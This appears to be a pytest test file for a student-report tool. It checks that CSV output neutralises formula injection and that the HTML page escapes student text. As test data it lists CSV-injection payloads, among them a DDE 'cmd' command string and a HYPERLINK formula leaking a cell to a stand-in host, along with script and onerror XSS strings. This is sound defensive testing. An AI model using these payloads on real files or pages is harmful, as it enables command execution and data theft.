"""What is written: a table that no spreadsheet runs, a page that shows text as text, both whole or not at all."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from coursekit import cli
from coursekit.report import build_report
from coursekit.report.class_list import ClassList
from coursekit.report.hand_ins import Sorted, hand_ins_in
from coursekit.report.process_pool import ProcessPool
from coursekit.report.spreadsheet import SheetFormat
from tests.report.conftest import Classroom

cell = SheetFormat().cell

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "“=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "-3",
    "+49 170", "%0A=1", "|calc", "\x00=1+1", "\t", "=", "\x0b=2",
)  # fmt: skip
"""After the cases of OWASP's "CSV Injection" and CWE-1236: marks of a formula, plain, wide, or behind what some
program takes off."""

HARMLESS = ("3", "3,5", "60 %", "a=b", "Who? – me", "ok -1", "“Yes”", "<b>")

MARKUP = "</p></details><script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt; \u202eevil\u202c \x1b[31m"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_harmless(text: str) -> None:
    shown = cell(text)
    assert shown.startswith("\"'")
    assert next(csv.reader(io.StringIO(f"{shown},2", newline="")))[1] == "2"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a;=1+1", "a;'=1+1"),
        ('";=1+1;"', '";\'=1+1;"'),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("a\n=1\r\n -2", "a\n'=1\r\n '-2"),
    ],
)
def test_a_formula_is_made_harmless_where_other_marks_separate_cells(text: str, shown: str) -> None:
    """A spreadsheet of another country splits lines at semicolons, quotation marks or not."""
    assert next(csv.reader(io.StringIO(cell(text), newline=""))) == [shown]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert next(csv.reader(io.StringIO(cell(text), newline=""))) == [text]


def test_the_table_has_a_line_for_every_answer(classroom: Classroom) -> None:
    rows = {row.id: row.answer for row in classroom.item("tram-match").rows}
    half = dict.fromkeys(rows, "fact")
    work = classroom.work(
        "a1",
        "=Ada",
        tram__match=classroom.entry("tram-match", half, answer=rows, tries=2, sure=80.0),
        tram__single=classroom.entry("tram-single", None, answer="", revealed=True),
        pays__words=classroom.entry("pays-words", "=1+1\nand, more"),
        pays__sum=classroom.entry("pays-sum", "-3"),
        decides__vote=classroom.entry("decides-vote", None),
    )
    classroom.hand_in("sub/a.json", work)
    _, lines, _ = classroom.report()
    found = {line["question"]: line for line in lines}
    assert set(found) == {"tram-match", "tram-single", "pays-words", "pays-sum"}, "what is blank has no line"
    assert {(line["file"], line["name"]) for line in lines} == {("sub/a.json", "'=Ada")}
    assert found["tram-match"] == {
        "file": "sub/a.json",
        "name": "'=Ada",
        "lesson": "00",
        "question": "tram-match",
        "kind": "match",
        "edition": "current",
        "answer": "Nobody needs a tram: Judgement; The buses are half empty: Fact",
        "first answer if another": "Nobody needs a tram: Fact; The buses are half empty: Fact",
        "right at first": "0",
        "points at first": "0.5",
        "tries": "2",
        "solution shown": "",
        "sure at first (%)": "80",
    }
    assert found["tram-single"]["solution shown"] == "yes"
    assert found["tram-single"]["right at first"] == ""
    assert found["pays-words"]["answer"] == "'=1+1\nand, more"
    assert found["pays-words"]["right at first"] == ""
    assert (found["pays-sum"]["answer"], found["pays-sum"]["tries"]) == ("'-3", "1")


class Reader(HTMLParser):
    """The elements of a page, the text of one kind of paragraph, and whatever could run."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_text_of_students_is_never_markup(classroom: Classroom) -> None:
    essay = {"claim": MARKUP, "objection": ""}
    work = classroom.work(
        "a1",
        MARKUP,
        pays__words=classroom.entry("pays-words", MARKUP),
        verdict__essay=classroom.entry("verdict-essay", essay),
        tram__map=classroom.entry("tram-map", MARKUP),
        pays__sum=classroom.entry("pays-sum", MARKUP),
    )
    work.places["questions"][MARKUP] = classroom.entry("pays-sum", "3")
    classroom.hand_in("<b>a&amp;.json", work)
    (classroom.folder / "<img src=x>.json").write_bytes(b"{")
    page, _, _ = classroom.report()
    seen = Reader(page)
    assert not seen.tags & {"script", "img", "b", "iframe", "link", "object"}
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert seen.text.count("<script>alert(1)</script>") >= 5
    assert "\x1b" not in page
    assert "default-src 'none'" in page
    assert "http://" not in page
    assert "https://" not in page


def test_many_texts_are_cut_off_on_the_page_and_whole_in_the_table(
    classroom: Classroom, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("coursekit.report.classwide.MOST_TEXTS", 3)
    monkeypatch.setattr("coursekit.report.class_section.MOST_TEXTS", 3)
    for number in range(5):
        entry = classroom.entry("pays-words", f"Text {number} " + "x" * 6_000)
        classroom.hand_in(f"{number}.json", classroom.work(f"s{number}", pays__words=entry))
    page, lines, _ = classroom.report()
    assert re.findall(r"Text \d", page) == ["Text 0", "Text 1", "Text 2"]
    assert "2 more are in report.csv" in page
    assert page.count("… (cut)") == 3
    assert [len(line["answer"]) for line in lines] == [6_007] * 5


def test_a_hostile_map_does_not_stop_the_report(classroom: Classroom) -> None:
    entry = classroom.entry("tram-map", "neddless -> votes\n" * 100_000)
    classroom.hand_in("a.json", classroom.work("a1", tram__map=entry))
    page, lines, _ = classroom.report()
    assert lines[0]["right at first"] == ""
    assert len(lines[0]["answer"]) < 32_767, "more than a cell can hold"
    assert "Answers that today’s question does not take: 1" in page


# The command


@pytest.fixture
def course(tram_copy: Path, classroom: Classroom, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Classroom:
    """A class beside its course, with somebody in the course's folder."""
    monkeypatch.chdir(tram_copy)
    return classroom


def test_a_report_is_a_page_with_a_table_beside_it(
    course: Classroom, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    course.hand_in("a.json", course.work("a1", pays__sum=course.entry("pays-sum", "3")))
    (course.folder / "b.json").write_bytes(b"{")
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / "class.html")]) == 0
    out, err = capsys.readouterr()
    assert out == f"1 hand-in counted: {tmp_path / 'class.html'} and {tmp_path / 'class.csv'}\n"
    assert err.splitlines()[0] == "1 file set aside:"
    assert err.splitlines()[1].startswith("  b.json: unreadable: it is no complete JSON file")
    assert (tmp_path / "class.csv").read_bytes().startswith(b"\xef\xbb\xbffile,name,")
    assert "1 hand-in counted" in (tmp_path / "class.html").read_text(encoding="utf-8")


def test_the_table_alone(course: Classroom, tmp_path: Path) -> None:
    course.hand_in("a.json", course.work("a1", pays__sum=course.entry("pays-sum", "3")))
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / "class.CSV")]) == 0
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith("class")] == ["class.CSV"]


def test_a_report_within_the_folder_is_no_hand_in_next_time(
    course: Classroom, capsys: pytest.CaptureFixture[str]
) -> None:
    course.hand_in("a.json", course.work("a1", pays__sum=course.entry("pays-sum", "3")))
    for _ in range(2):
        assert cli.main(["report", str(course.folder), "-o", str(course.folder / "report.html")]) == 0
        assert capsys.readouterr().err == ""
    assert sorted(path.name for path in course.folder.iterdir()) == ["a.json", "report.csv", "report.html"]


def test_when_no_file_counts_the_report_says_so(
    course: Classroom, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for number in range(30):
        (course.folder / f"{number:02}.json").write_bytes(b"%d" % number)
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / "class.html")]) == 0
    assert capsys.readouterr().err.splitlines()[-1] == "  and 10 more"
    page = (tmp_path / "class.html").read_text(encoding="utf-8")
    assert "No hand-in could be counted" in page
    assert page.count("it is JSON, but no work saved from a course") == 30


@pytest.mark.parametrize("out", ["report.json", "report", "none/report.html", "folder.html"])
def test_where_nothing_can_be_written_there_is_one_message(
    course: Classroom, capsys: pytest.CaptureFixture[str], tmp_path: Path, out: str
) -> None:
    (tmp_path / "folder.html").mkdir()
    course.hand_in("a.json", course.work("a1", pays__sum=course.entry("pays-sum", "3")))
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / out)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("coursekit: ")
    assert out.rpartition("/")[2] in err
    assert len(err.splitlines()) == 1
    assert not list(tmp_path.glob("*.csv"))


def test_an_empty_folder_writes_nothing(course: Classroom, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / "class.html")]) == 1
    assert "there is no hand-in in" in capsys.readouterr().err
    assert not (tmp_path / "class.html").exists()


def test_what_was_there_stays_when_the_report_fails(
    course: Classroom, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    course.hand_in("a.json", course.work("a1", pays__sum=course.entry("pays-sum", "3")))
    for name in ("class.html", "class.csv"):
        (tmp_path / name).write_text("last week", encoding="utf-8")

    def full(*_: object) -> str:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(build_report, "page", full)
    assert cli.main(["report", str(course.folder), "-o", str(tmp_path / "class.html")]) == 1
    assert {path.name: path.read_text(encoding="utf-8") for path in tmp_path.glob("*class.*")} == {
        "class.html": "last week",
        "class.csv": "last week",
    }


def test_a_file_that_changes_meanwhile_is_set_aside(classroom: Classroom, monkeypatch: pytest.MonkeyPatch) -> None:
    for student in ("a", "b"):
        classroom.hand_in(f"{student}.json", classroom.work(student, pays__sum=classroom.entry("pays-sum", "3")))

    def found(folder: Path, kit: str, pool: ProcessPool, names: ClassList | None) -> Sorted:
        listed = hand_ins_in(folder, kit, pool, names)
        (folder / "a.json").unlink()
        (folder / "b.json").write_bytes((folder / "b.json").read_bytes().replace(b'"3"', b'"4"'))
        return listed

    monkeypatch.setattr(build_report, "hand_ins_in", found)
    page, lines, said = classroom.report()
    assert lines == []
    assert said[0] == "2 files set aside:"
    assert "b.json: unreadable: it changed while the report was made" in said[2]
    assert "No hand-in could be counted" in page
